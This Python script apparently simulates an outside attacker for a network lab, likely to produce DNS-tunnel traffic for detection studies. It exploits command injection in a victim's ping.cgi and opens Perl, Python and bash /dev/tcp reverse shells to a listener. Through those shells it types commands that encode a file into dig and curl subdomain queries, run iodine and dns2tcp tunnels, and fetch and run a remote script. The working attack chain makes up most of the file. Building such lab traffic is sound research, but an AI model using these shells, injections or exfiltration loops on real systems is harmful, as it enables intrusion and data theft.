#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a machine meets outside: name servers of the tunnels' zones, a web server, and somebody who
breaks into it through ping.cgi and types at the shell that calls back.

    world.py CELLS FIRST-SHELL-TIME

Runs until the last shell has closed.
"""

import http.client
import http.server
import os
import random
import socket
import struct
import sys
import threading
import time
import urllib.parse

VICTIM, WORLD, LISTENER, WEB = "192.0.2.10", "192.0.2.53", "198.51.100.9", "198.51.100.7"
SECONDS_A_SHELL = {"dns2tcp": 55, "python": 60, "dig": 105, "curl": 105, "iodine": 65}
TXT, A = 16, 1

PERL = ('perl -MSocket -e \'socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(443,'
        f'inet_aton("{LISTENER}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");'
        'exec("/bin/sh -i");\'')
PYTHON = ('python3 -c \'import os,socket,subprocess;s=socket.create_connection(("' + LISTENER +
          '",443));[os.dup2(s.fileno(),i) for i in (0,1,2)];subprocess.call(["/bin/sh","-i"])\'')
BASH = f'bash -c "bash -i >& /dev/tcp/{LISTENER}/443 0>&1"'
FETCH = "for i in 1 2 3 4 5; do sleep 4; curl -s -m 15 -o /dev/null {url} && break; done"
FILE = "/usr/share/common-licenses/Artistic"
# tool -> how the shell comes about, what is typed into it
TYPED = {
    "dns2tcp": (PERL, "timeout 40 dns2tcpc -r page -z {zone} -l 9100 192.0.2.53 >/dev/null 2>&1 &\n"
                + FETCH.format(url="http://127.0.0.1:9100/page")),
    "dig": (PERL, f"for p in $(head -c 960 {FILE} | base32 -w 48 | tr -d = | tr A-Z a-z); "
            "do dig +short TXT $p.{zone} >/dev/null; sleep 0.2; done"),
    "python": (BASH, f"curl -s -o /var/tmp/.q http://{WEB}/query.py && "
               "python3 /var/tmp/.q {zone} 192.0.2.53 " + FILE),
    "curl": (PYTHON, f"for p in $(head -c 768 {FILE} | od -An -v -tx1 -w24 | tr -d ' '); "
             "do curl -s -m 3 -o /dev/null http://$p.{zone}/; sleep 0.2; done"),
    "iodine": (PYTHON, "sudo -n /usr/sbin/iodine -f -r -P secret {zone} >/dev/null 2>&1 &\n"
               + FETCH.format(url="http://10.9.3.1/page")),
}


def name_end(message):
    at = 12
    while message[at]:
        at += 1 + message[at]
    return at + 5


def answer(message, rng):
    """TXT: 60 bytes of orders; A: the web server; else nothing."""
    end = name_end(message)
    qtype = struct.unpack(">H", message[end - 4:end - 2])[0]
    data = {TXT: b"\x3c" + rng.randbytes(30).hex().encode(), A: socket.inet_aton(WEB)}.get(qtype)
    head = message[:2] + struct.pack(">5H", 0x8580, 1, 1 if data else 0, 0, 0)
    if not data:
        return head + message[12:end]
    return head + message[12:end] + b"\xc0\x0c" + struct.pack(">2HIH", qtype, 1, 30, len(data)) \
        + data


def serve_names(address, port):
    rng = random.Random(5)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((address, port))
    while True:
        message, peer = s.recvfrom(4096)
        try:
            s.sendto(answer(message, rng), peer)
        except (IndexError, struct.error):
            continue


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "query.py"), "rb") as f:
            body = f.read() if self.path == "/query.py" else b"x" * 1500
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def break_in(command):
    """Asks ping.cgi for one address and a command behind it."""
    c = http.client.HTTPConnection(VICTIM, 80, timeout=90)
    try:
        c.request("GET", "/cgi-bin/ping.cgi?" + urllib.parse.quote(f"127.0.0.1; {command}"))
        c.getresponse().read()
    except OSError as e:
        print(e, file=sys.stderr)


def shell(listener, cell, end):
    how, typed = TYPED[cell["tool"]]
    threading.Thread(target=break_in, args=(how,), daemon=True).start()
    listener.settimeout(45)
    c, _ = listener.accept()
    time.sleep(1)
    c.sendall(typed.format(zone=cell["zone"]).encode() + b"\n")
    c.settimeout(1)
    said = b""
    while time.time() < end - 5:
        try:
            said += c.recv(4096)
        except TimeoutError:
            continue
    print(cell["tool"], said[-300:], file=sys.stderr)
    c.sendall(b"exit\n")
    c.close()


def main(argv):
    with open(argv[1], encoding="utf-8") as f:
        columns, *rows = [line.rstrip("\n").split("\t") for line in f]
    cells = [dict(zip(columns, row)) for row in rows]
    for address, port in ((LISTENER.replace(".9", ".53"), 53), ("127.0.0.1", 5300)):
        threading.Thread(target=serve_names, args=(address, port), daemon=True).start()
    web = http.server.ThreadingHTTPServer(("0.0.0.0", 80), Page)
    threading.Thread(target=web.serve_forever, daemon=True).start()
    listener = socket.create_server((LISTENER, 443))
    start = float(argv[2])
    for cell in (c for c in cells if c["origin"] == "shell"):
        time.sleep(max(0, start - time.time()))
        start += SECONDS_A_SHELL[cell["tool"]]
        try:
            shell(listener, cell, start)
        except OSError as e:
            print(cell["zone"], e, file=sys.stderr)


main(sys.argv)
